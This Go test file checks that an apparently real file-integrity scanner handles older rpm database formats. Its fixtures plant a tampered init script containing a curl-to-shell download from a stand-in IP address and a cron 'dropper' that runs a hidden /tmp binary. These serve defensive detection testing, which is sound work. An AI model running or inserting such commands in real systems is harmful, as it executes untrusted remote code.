package main

import (
	"fmt"
	"strings"
	"testing"

	"github.com/tripline/tripline/internal/pkgtest"
	"github.com/tripline/tripline/internal/testenv"
)

// TestFirstScanRPMFormats: the first scan of a root whose rpm database is in an older format, a
// Berkeley DB Packages (as on RHEL/CentOS 8 and before; written by the real Berkeley DB from the
// headers the real rpm wrote, in both byte orders) or an ndb Packages.db (openSUSE; written from
// the format's specification, as Debian has no ndb writer), attributes the files exactly as with
// rpmdb.sqlite: the altered package file is package-file-modified, the unowned executable
// unowned-executable, the intact files (one under the merged-/usr alias /lib) verified, and the
// scan names the database it read.
func TestFirstScanRPMFormats(t *testing.T) {
	testenv.RequireRoot(t)
	pkgtest.Need(t, "rpm", "rpmbuild", "db5.3_load")
	spec := pkgtest.Spec{Name: "tripline-old", Version: "3.1", Files: map[string]pkgtest.File{
		"/etc/cron.daily/tripline-old":                {Content: "#!/bin/sh\necho daily\n", Mode: 0o755},
		"/etc/init.d/tripline-old":                    {Content: "#!/bin/sh\necho init\n", Mode: 0o755},
		"/lib/systemd/system-generators/tripline-old": {Content: "#!/bin/sh\nexit 0\n", Mode: 0o755},
	}}
	rpmFile := pkgtest.BuildRPM(t, spec)
	for _, c := range []struct{ format, source string }{
		{"bdb-le", "rpm /var/lib/rpm/Packages (Berkeley DB, 1 packages)"},
		{"bdb-be", "rpm /var/lib/rpm/Packages (Berkeley DB, 1 packages)"},
		{"ndb", "rpm /usr/lib/sysimage/rpm/Packages.db (ndb, 1 packages)"},
	} {
		t.Run(c.format, func(t *testing.T) {
			fx := newFixture(t)
			mergeUsr(t, fx)
			pkgtest.InstallRPM(t, fx.root, rpmFile)
			pkgtest.ConvertRPMDB(t, fx.root, c.format)
			fx.write(t, "etc/init.d/tripline-old", "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n", 0o755)
			fx.write(t, "etc/cron.daily/dropper", "#!/bin/sh\n/tmp/.x\n", 0o755)

			r := tl(t, fx, "scan", "--format", "json")
			fs := findings(parseLines(t, r.stdout))
			if mod := fs["/etc/init.d/tripline-old"]; mod == nil || mod["rule"] != "package-file-modified" || mod["severity"] != "high" {
				t.Errorf("altered package file: %v\n%s", mod, r.stdout)
			}
			if un := fs["/etc/cron.daily/dropper"]; un == nil || un["rule"] != "unowned-executable" {
				t.Errorf("unowned executable: %v", un)
			}
			for _, p := range []string{"/etc/cron.daily/tripline-old", "/usr/lib/systemd/system-generators/tripline-old"} {
				if fs[p] != nil {
					t.Errorf("%s is as its package shipped it, yet: %v", p, fs[p])
				}
			}
			show := tl(t, fx, "baseline", "show", "--format", "json")
			states := map[string]string{}
			for _, l := range parseLines(t, show.stdout) {
				if pkg, _ := l["package"].(map[string]any); pkg != nil {
					states[l["path"].(string)] = fmt.Sprintf("%v %v %v", pkg["name"], pkg["version"], pkg["state"])
				}
			}
			for p, want := range map[string]string{
				"/etc/init.d/tripline-old":                        "tripline-old 3.1-1 modified",
				"/etc/cron.daily/tripline-old":                    "tripline-old 3.1-1 verified",
				"/usr/lib/systemd/system-generators/tripline-old": "tripline-old 3.1-1 verified",
			} {
				if states[p] != want {
					t.Errorf("baseline show %s: %q, want %q", p, states[p], want)
				}
			}
			text := tl(t, fx, "scan")
			if !strings.Contains(text.stdout+text.stderr, c.source) || strings.Contains(text.stdout+text.stderr, "not read") {
				t.Errorf("the scan does not name %q as read, or says something was not read:\n%s%s", c.source, text.stdout, text.stderr)
			}
		})
	}
}
